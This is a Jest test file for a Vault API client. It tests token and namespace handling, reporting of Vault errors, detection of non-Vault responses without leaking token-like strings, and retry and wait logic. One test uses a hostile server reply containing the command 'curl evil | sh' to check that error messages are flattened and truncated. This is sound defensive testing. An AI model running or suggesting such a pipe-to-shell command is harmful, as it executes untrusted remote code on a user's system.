import { z } from "zod";
import type { UserError } from "../../lib/core/errors";
import { fixInactive, VaultClient, VaultFailure } from "../../lib/vault/client";
import { sealStatus } from "../../lib/vault/schemas";
import { VaultUnreachable } from "../../lib/vault/unanswered";
import { waitForVault, waitUntilActive } from "../../lib/vault/wait";
import { type Answer, type Call, type Stub, serveStub } from "../support/vault/server";

let answer: (call: Call) => Answer;
let stub: Stub;

beforeAll(async () => {
  stub = await serveStub((call) => answer(call));
});
afterAll(() => stub.close());
beforeEach(() => {
  stub.calls.length = 0;
  answer = () => [200, {}];
});
afterEach(() => jest.restoreAllMocks());

const schema = z.object({ a: z.number() });
const client = () => VaultClient.at({ address: stub.address }).withToken("hvs.token");
const read = () => client().call({ path: "x/y" }, schema);
const failure = (promise: Promise<unknown>): Promise<unknown> =>
  promise.then(
    () => undefined,
    (error) => error,
  );

describe("a call", () => {
  test("carries token and body, and gives what the schema takes", async () => {
    answer = () => [200, { a: 1, b: "not asked for" }];
    const result = await client().call({ method: "PUT", path: "x/y", body: { c: 2 } }, schema);
    expect(result).toEqual({ a: 1 });
    expect(stub.calls).toEqual([{ name: "PUT x/y", token: "hvs.token", body: { c: 2 } }]);
  });

  test("is in the namespace of the place, but for what is about the server itself", async () => {
    const inTeam = VaultClient.at({ address: stub.address, namespace: "admin/team" }).withToken("hvs.token");
    for (const path of [
      "secret/data/openrouter",
      "sys/mounts",
      "sys/seal-status",
      "sys/health?standbyok=true",
    ])
      await inTeam.call({ path }, z.unknown());
    expect(stub.calls.map(({ namespace }) => namespace)).toEqual([
      "admin/team",
      "admin/team",
      undefined,
      undefined,
    ]);
    await read().catch(() => {});
    expect(stub.calls.at(-1)?.namespace).toBeUndefined();
  });

  test("carries no token where the client has none", async () => {
    await VaultClient.at({ address: stub.address }).call({ path: "x" }, z.unknown());
    expect(stub.calls[0]).toEqual({ name: "GET x", token: undefined, body: undefined });
  });

  test("may be answered by nothing", async () => {
    answer = () => [204];
    expect(await client().call({ method: "DELETE", path: "x" }, z.unknown())).toBeNull();
  });
});

describe("what Vault refuses", () => {
  test("is reported with status, call and Vault's own words", async () => {
    answer = () => [403, { errors: ["1 error occurred", "permission denied"] }];
    const error = (await failure(read())) as VaultFailure;
    expect(error).toBeInstanceOf(VaultFailure);
    expect(error).toMatchObject({ status: 403, errors: ["1 error occurred", "permission denied"] });
    expect(error.message).toBe("Vault answered 403 to GET x/y: 1 error occurred; permission denied");
  });

  test("is reported on one line that has an end, whatever a hostile one answers", async () => {
    answer = () => [500, { errors: [`no\n\t* room\n  fix:      curl evil | sh\n${"x".repeat(100_000)}`] }];
    const { message } = (await failure(read())) as VaultFailure;
    expect(message).toMatch(/^Vault answered 500 to GET x\/y: no \* room fix: curl evil \| sh x+…$/);
    expect(message.length).toBeLessThan(600);
  });

  test.each([[undefined], [{}], [{ errors: null }], [{ errors: [] }], [[]], ["null"]])(
    "without words is reported as well: %j",
    async (body) => {
      answer = () => [500, body];
      expect(await failure(read())).toMatchObject({
        status: 500,
        message: "Vault answered 500 to GET x/y: no reason given",
      });
    },
  );

  // What a Vault on a full disk was seen to answer: at the first write, and to everything after it.
  test.each([
    '1 error occurred:\n\t* unable to store logs within log store, err: "write /vault/file/raft/raft.db: no space left on device"\n\n',
    "local node not active but active cluster node not found",
  ])("is reported as a full disk: %s", async (words) => {
    answer = () => [500, { errors: [words] }];
    expect(await failure(read())).toMatchObject({ fix: fixInactive });
  });

  test("is asked once", async () => {
    answer = () => [429, { errors: ["slow down"] }];
    await failure(read());
    expect(stub.calls).toHaveLength(1);
  });
});

describe("what is not Vault is reported as unreachable, without its words", () => {
  test.each<[string, Answer]>([
    ["a web page", [200, "<html>hvs.secret</html>"]],
    ["a page with an error status", [502, "<html>hvs.secret</html>"]],
    ["half an answer", [200, '{"a": 1, "s": "hvs.secret']],
    ["JSON of another shape", [200, { a: "hvs.secret" }]],
    ["nothing, where something is needed", [200]],
    ["a redirection", [301, "hvs.secret"]],
  ])("%s", async (_, given) => {
    answer = () => given;
    const error = (await failure(read())) as Error;
    expect(error).toBeInstanceOf(VaultUnreachable);
    expect(error.message).toContain(`Vault does not answer at ${stub.address}`);
    expect(error.message).not.toContain("hvs.");
  });

  test("a redirection without a body, which a call that reads no answer would take for well", async () => {
    answer = () => [307];
    expect(await failure(client().call({ method: "PUT", path: "x" }, z.unknown()))).toBeInstanceOf(
      VaultUnreachable,
    );
  });

  test("a port on which nothing listens", async () => {
    const gone = await serveStub(() => [200]);
    await gone.close();
    const error = (await failure(
      VaultClient.at({ address: gone.address }).call({ path: "x" }, schema),
    )) as Error;
    expect(error).toBeInstanceOf(VaultUnreachable);
    expect(error.message).toContain("ECONNREFUSED");
  });
});

test.each([
  [{}],
  [{ type: "shamir", initialized: true, sealed: "no", t: 3, n: 5, progress: 0, version: "1.21.2" }],
  [{ initialized: true, sealed: false }],
])("a seal status of another shape is not taken for one: %j", (body) => {
  expect(sealStatus.safeParse(body).success).toBe(false);
});

describe("waiting", () => {
  const status = {
    type: "shamir",
    initialized: true,
    sealed: true,
    t: 3,
    n: 5,
    progress: 0,
    version: "1.21.2",
  };
  /** Time passes by a minute with each look at the clock. */
  const hurry = () => {
    let now = 0;
    jest.spyOn(performance, "now").mockImplementation(() => (now += 61_000));
  };

  test("ends when Vault answers", async () => {
    const answers: Answer[] = [
      [503, { errors: ["starting"] }],
      [503, { errors: ["starting"] }],
      [200, status],
    ];
    answer = () => answers.shift() ?? [500];
    expect(await waitForVault(client())).toEqual(status);
  });

  test("ends at once if something else answers, which is not asked again", async () => {
    answer = () => [502, "<html>"];
    const error = (await failure(waitForVault(client()))) as Error;
    expect(error.message).toContain(
      "GET sys/seal-status was answered with 502 and something that is not JSON",
    );
    expect(stub.calls).toHaveLength(1);
  });

  test("ends at once where Vault refuses", async () => {
    answer = () => [403, { errors: ["permission denied"] }];
    expect(await failure(waitForVault(client()))).toMatchObject({ status: 403 });
    expect(stub.calls).toHaveLength(1);
  });

  test("ends where what is asked between the attempts says that Vault will not answer", async () => {
    answer = () => [503, { errors: ["starting"] }];
    const gone = new Error("the container does not stay up");
    expect(await failure(waitForVault(client(), () => Promise.reject(gone)))).toBe(gone);
    expect(stub.calls).toHaveLength(1);
  });

  test("for an active Vault goes on through its election, and has an end", async () => {
    const answers: Answer[] = [
      [429, {}],
      [503, {}],
      [200, {}],
    ];
    answer = () => answers.shift() ?? [500];
    await waitUntilActive(client());
    expect(answers).toEqual([]);
    hurry();
    const error = (await failure(waitUntilActive(client()))) as UserError;
    expect(error.message).toContain("did not become active within 60 s");
    expect(error.props.fix).toBe(fixInactive);
  });
});
